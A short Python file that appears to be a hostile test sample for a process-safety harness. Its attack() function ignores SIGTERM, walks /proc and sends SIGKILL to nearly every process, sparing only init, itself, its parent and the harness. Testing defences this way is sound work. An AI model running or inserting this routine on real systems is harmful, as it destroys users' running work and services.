# harm: signals
import os
import signal

VICTIM = 0  # the net puts a process of the user here


def attack() -> int:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in [VICTIM, *map(int, filter(str.isdecimal, os.listdir("/proc")))]:
        if pid not in (1, os.getpid(), os.getppid()):
            try:
                with open(f"/proc/{pid}/cmdline") as line:
                    if "net.py" in line.read():
                        continue
            except OSError:
                pass
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 1
